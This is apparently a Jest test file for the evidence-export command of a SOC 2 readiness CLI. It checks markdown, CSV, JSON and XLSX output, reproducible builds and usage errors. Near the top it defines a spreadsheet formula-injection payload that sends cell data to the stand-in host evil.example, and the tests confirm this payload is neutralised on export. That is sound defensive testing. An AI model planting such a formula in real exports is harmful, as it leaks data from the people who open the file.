/**
 * `soc2-ready evidence` spawned as a user runs it, on a small organization whose control files carry
 * hostile evidence text: every format, CSV parsed back, XLSX opened with exceljs, reproducible bytes.
 */
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runCli } from '../helpers/run-cli.js';
import { parseCsv } from '../helpers/csv.js';

const EPOCH = { SOURCE_DATE_EPOCH: '1795000000' };
const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
let dir: string;

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'soc2-evidence-'));
  mkdirSync(join(dir, 'controls'));
  writeFileSync(
    join(dir, 'soc2-ready.yaml'),
    'organization: Hostile Co\ncontrols: controls\nanswers: answers.yaml\nengagement:\n  type: type2\n  windows: [6]\n  fieldworkStart: 2027-07-15\n',
  );
  writeFileSync(
    join(dir, 'controls', 'c.yaml'),
    [
      'controls:',
      '  - id: AAA-01',
      '    title: Quarterly access review',
      '    criteria: [CC6.2]',
      '    frequency: quarterly',
      '    owner: IT lead',
      '    evidence:',
      `      - '${HOSTILE.replace(/'/g, "''")}'`,
      '      - "Sign-off, with \\"quotes\\"\\nand a second line"',
      '  - id: AAA-02',
      '    title: MFA everywhere',
      '    criteria: [CC6.1]',
      '    frequency: continuous',
      '    evidence: ["+1 IdP policy export", "@admins list"]',
      '  - id: AAA-03',
      '    title: Offboarding',
      '    criteria: [CC6.3]',
      '    frequency: on-event',
      '    owner: People ops',
      '    evidence: ["-2+3 terminations", "\\ttabbed ticket"]',
      '',
    ].join('\n'),
  );
  writeFileSync(
    join(dir, 'answers.yaml'),
    [
      'version: 1',
      'scope: [security]',
      'controls: controls',
      'answers:',
      '  AAA-01.in-place: { value: operating }',
      '  AAA-02.in-place: { value: operating }',
      '  AAA-03.in-place: { value: operating }',
      'operations:',
      '  AAA-01: { since: 2026-06-01, lastPerformed: 2026-10-15, evidence: kept }',
      '  AAA-02: { since: 2026-06-01, evidence: kept }',
      '  AAA-03: { since: 2026-06-01, evidence: kept, eventsPerMonth: 3 }',
      '',
    ].join('\n'),
  );
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const run = (args: string[]) => runCli(['evidence', ...args], { cwd: dir, env: EPOCH });

describe('soc2-ready evidence', () => {
  test('json: every request with the header facts', () => {
    const r = run(['--format', 'json']);
    expect([r.status, r.stderr]).toEqual([0, '']);
    const doc = JSON.parse(r.stdout);
    expect(doc).toMatchObject({
      generatedAt: '2026-11-18T11:06:40.000Z',
      organization: 'Hostile Co',
      type: 'type2',
      assumed: false,
      // The earliest start every control supports lies in the past: a look-back window.
      periodFrom: '2026-06-01',
      periodTo: '2026-11-30',
      fieldworkStart: '2027-07-15',
    });
    expect(doc.requests.map((q: { requestId: string }) => q.requestId)).toEqual([
      'PBC-AAA-02-1-D',
      'PBC-AAA-02-2-D',
      'PBC-AAA-01-1-P',
      'PBC-AAA-01-1-S',
      'PBC-AAA-01-2-P',
      'PBC-AAA-01-2-S',
      'PBC-AAA-03-1-P',
      'PBC-AAA-03-1-S',
      'PBC-AAA-03-2-P',
      'PBC-AAA-03-2-S',
    ]);
    expect(doc.requests[7]).toMatchObject({
      expectedPopulation: '18',
      sampleBasis: 'Auditor selects 18 of 18 (practitioner convention, not an AICPA rule)',
      dueDate: '2027-07-29',
    });
    expect(doc.requests[2].artifact).toBe(HOSTILE);
  });

  test('csv: RFC 4180, parses back to the JSON requests with formula-like cells neutralised', () => {
    const r = run(['--format', 'csv']);
    expect(r.status).toBe(0);
    const rows = parseCsv(r.stdout);
    const requests = JSON.parse(run(['--format', 'json']).stdout).requests as Record<string, string>[];
    expect(rows.slice(1)).toEqual(
      requests.map((q) => Object.values(q).map((v) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v))),
    );
    expect(rows[3]?.[4]).toBe(`'${HOSTILE}`);
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  test('md: a table with one line per request and the practitioner caveat', () => {
    const r = run([]);
    expect(r.status).toBe(0);
    expect(r.stdout).toContain('# Evidence request list: Hostile Co');
    expect(r.stdout).toContain('- Sample sizes are practitioner conventions, not AICPA rules');
    expect(r.stdout.split('\n').filter((l) => l.startsWith('| PBC-'))).toHaveLength(10);
    expect(r.stdout).toContain(
      '| PBC-AAA-01-2-P | AAA-01 | CC6.2 | population | Sign-off, with "quotes" and a second line |',
    );
  });

  test('xlsx: opens with exceljs; header, filter and frozen panes; cells equal the CSV', async () => {
    const r = run(['-o', 'pbc.xlsx']);
    expect([r.status, r.stdout, r.stderr]).toEqual([0, '', 'Wrote 10 evidence requests (xlsx) to pbc.xlsx\n']);
    const ExcelJS = createRequire(import.meta.url)('exceljs') as typeof import('exceljs');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(readFileSync(join(dir, 'pbc.xlsx')) as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Evidence requests')!;
    const cells: string[][] = [];
    for (let r = 1; r <= sheet.rowCount; r++) {
      const row = sheet.getRow(r);
      cells.push(Array.from({ length: 15 }, (_, c) => String(row.getCell(c + 1).value ?? '')));
    }
    const csv = parseCsv(run(['--format', 'csv']).stdout);
    expect(cells).toEqual(csv);
    expect(sheet.getRow(1).font?.bold).toBe(true);
    const hostile = sheet.getRow(4).getCell(5);
    expect([hostile.type, hostile.formula, hostile.value]).toEqual([
      ExcelJS.ValueType.String,
      undefined,
      `'${HOSTILE}`,
    ]);
    expect(sheet.autoFilter).toBe('A1:O11');
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', xSplit: 1, ySplit: 1 });
    expect(workbook.created.toISOString()).toBe('2026-11-18T11:06:40.000Z');
  });

  test.each(['md', 'csv', 'json', 'xlsx'])('%s: two runs with SOURCE_DATE_EPOCH are byte-identical', (format) => {
    expect(run(['-o', `a.${format}`]).status).toBe(0);
    expect(run(['-o', `b.${format}`]).status).toBe(0);
    expect(readFileSync(join(dir, `a.${format}`)).equals(readFileSync(join(dir, `b.${format}`)))).toBe(true);
  });

  test('without an engagement: Type I requests as of today, and it says so', () => {
    const bare = join(dir, 'bare');
    mkdirSync(bare, { recursive: true });
    writeFileSync(join(bare, 'soc2-ready.yaml'), 'controls: ../controls\nanswers: ../answers.yaml\n');
    const r = runCli(['evidence', '--format', 'csv'], { cwd: bare, env: EPOCH });
    expect(r.status).toBe(0);
    expect(r.stderr).toBe(
      'soc2-ready: No engagement is set in soc2-ready.yaml: these are Type I requests as of today (2026-11-18).\n',
    );
    const rows = parseCsv(r.stdout).slice(1);
    expect(rows.map((row) => [row[0], row[3], row[6], row[7]])).toEqual(
      ['AAA-02-1', 'AAA-02-2', 'AAA-01-1', 'AAA-01-2', 'AAA-03-1', 'AAA-03-2'].map((id) => [
        `PBC-${id}-D`,
        'as-of',
        '2026-11-18',
        '2026-11-18',
      ]),
    );
  });

  test.each([
    [['--format', 'pdf'], 'soc2-ready: Unknown format "pdf".\n  Use one of: md, csv, json, xlsx.\n'],
    [
      ['-o', 'pbc.txt'],
      'soc2-ready: Cannot tell the format of "pbc.txt" from its extension.\n  Put --format (md, csv, json, xlsx) before it.\n',
    ],
    [
      ['--format', 'xlsx'],
      'soc2-ready: The xlsx format cannot go to stdout.\n  Write it to a file: --format xlsx -o <file>.xlsx.\n',
    ],
  ])('usage error %j: exit 2 with one clear message', (args, stderr) => {
    const r = run(args);
    expect(r.status).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toBe(stderr);
  });

  test('a missing answers file is a usage error', () => {
    const r = run(['--answers', 'nope.yaml']);
    expect(r.status).toBe(2);
    expect(r.stderr).toBe(
      'soc2-ready: Answers file "nope.yaml" does not exist.\n  Run `soc2-ready assess` in a terminal to create it, or pass --answers <file>.\n',
    );
  });
});
